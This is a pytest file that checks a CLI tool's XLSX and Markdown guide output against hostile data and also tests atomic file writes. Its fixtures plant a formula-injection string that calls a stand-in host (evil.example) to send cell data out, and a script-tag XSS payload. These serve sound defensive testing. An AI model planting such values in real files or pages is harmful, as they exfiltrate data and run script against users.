"""Output safety (issue #22 item 4, 6): data stays data in XLSX and Markdown, ``-o`` is atomic.

A store is loaded with hostile texts (a basis titled as a live HYPERLINK formula,
a department name holding ``<script>``); the guide written from it as XLSX keeps
every such text a string cell, the Markdown guide shows it escaped. A write that
fails part way (the process's file size limit, as a full disk does) ends with
exit 3, a message naming the file, the old file unchanged and no temporary file.
"""

from __future__ import annotations

import csv
import os
import resource
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from .bad_inputs import demo_copy

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"依据")'
SCRIPT = "<script>alert(1)</script>"


def _rewrite(path: Path, column: str, edit) -> None:
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        row[column] = edit(row[column])
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


@pytest.fixture
def hostile(tmp_path, cli):
    bundle = demo_copy(tmp_path / "hostile")
    _rewrite(bundle / "bases.csv", "title", lambda _: EVIL)
    _rewrite(bundle / "departments.csv", "name", lambda name: SCRIPT + name)
    cli("load", str(bundle))
    return cli


def test_xlsx_guide_writes_hostile_texts_as_strings(hostile, tmp_path):
    out = tmp_path / "guide.xlsx"
    hostile("guide", "剧本杀", "--region", "510104", "--format", "xlsx", "-o", str(out))
    ws = load_workbook(out)["一业一册"]
    cells = [c for row in ws.iter_rows(min_row=4) for c in row if c.value]
    bases = [c for c in cells if c.column_letter == "E"]
    assert bases and all(EVIL in c.value for c in bases)
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]
    assert not any(isinstance(c.value, str) and c.data_type == "f" for c in cells)


def test_markdown_guide_escapes_html_and_markdown(hostile):
    md = hostile("guide", "剧本杀", "--region", "510104").stdout
    assert "<script>" not in md and "&lt;script&gt;" in md
    assert "HYPERLINK" in md  # shown, as text
    assert "](" not in md.replace("\\](", "")  # no live Markdown link from the data


def _limited(max_bytes: int):
    def limit() -> None:  # a full disk, as the writer sees it: writes past the limit fail (EFBIG)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (max_bytes, max_bytes))

    return limit


@pytest.mark.parametrize(
    "command",
    [
        ("guide", "剧本杀", "--region", "510104", "--format", "xlsx"),
        ("guide", "剧本杀", "--region", "510104", "--format", "md"),
        ("export", "--format", "ttl"),
    ],
    ids=["guide-xlsx", "guide-md", "export-ttl"],
)
def test_a_failed_write_leaves_the_old_file_and_no_temporary(command, tmp_path, cli):
    cli("load", str(demo_copy(tmp_path / "demo")))
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "result"
    target.write_text("the previous result", "utf-8")
    # The limit stands for a full disk under the output folder, not under the store: a
    # connection held open here keeps the store's WAL index at its full size, so the
    # command's own store opens without growing a file and only the output write fails.
    held = sqlite3.connect(cli.store_path)
    held.execute("select count(*) from sqlite_master").fetchone()
    proc = subprocess.run(
        [sys.executable, "-m", "dutygraph", *command, "-o", str(target)],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "DUTYGRAPH_STORE": str(cli.store_path)},
        preexec_fn=_limited(200),
    )
    held.close()
    assert proc.returncode == 3, proc.stderr
    assert str(target) in proc.stderr and "internal error" not in proc.stderr
    assert target.read_text("utf-8") == "the previous result"
    assert [p.name for p in folder.iterdir()] == ["result"]


def test_o_naming_a_folder_is_a_usage_error(tmp_path, cli):
    cli("load", str(demo_copy(tmp_path / "demo")))
    proc = cli("export", "--format", "ttl", "-o", str(tmp_path), check=False)
    assert proc.returncode == 2 and "folder" in proc.stderr
